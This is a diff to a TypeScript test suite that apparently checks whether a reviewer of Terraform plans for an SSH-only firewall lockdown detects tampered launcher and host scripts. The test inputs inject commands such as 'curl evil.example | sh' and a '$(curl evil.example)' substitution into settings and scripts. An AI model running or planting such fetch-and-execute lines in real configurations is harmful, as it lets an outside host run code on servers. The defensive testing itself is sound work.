@@ -232,8 +232,8 @@ describeReviews("the review of a plan", ({ project, firewall, change }) => {
     ],
     ["a setting that is shell", (text: string) => text.replace("BACKEND='auto'", 'BACKEND="$(curl evil.example)"')],
     [
-      "a command in the launcher",
-      (text: string) => text.replace("exec </dev/null", "curl evil.example | sh; exec </dev/null"),
+      "a launcher of its own",
+      (text: string) => text.replace("local.ssh_only_firewall_launcher", "local.fleet_rulesets.shared.nftables"),
     ],
     ["a command behind it", (text: string) => `${text}curl evil.example\n`],
     [
@@ -255,6 +255,18 @@ describeReviews("the review of a plan", ({ project, firewall, change }) => {
       "-: terraform_data.fleet_lockdown uploads another script than this version of ssh-only-firewall would: read it, or review with the version that the configuration was made with",
     ]);
   });
+
+  test.each(["ssh_only_firewall_host_program", "ssh_only_firewall_launcher"])(
+    "of another %s than this version has says that it is another one",
+    async (name) => {
+      const made = await project();
+      const configuration = firewall(made, { hosts: hosts(1) }) as { locals: Record<string, string> };
+      configuration.locals[name] += "curl evil.example\n";
+      expect(details(reviewed(await made.plan(configuration)), "unclear")).toEqual([
+        "-: terraform_data.fleet_lockdown uploads another script than this version of ssh-only-firewall would: read it, or review with the version that the configuration was made with",
+      ]);
+    },
+  );
 
   test("of a lockdown that lost a trigger reports it, and does not call it something else", async () => {
     const made = await project();
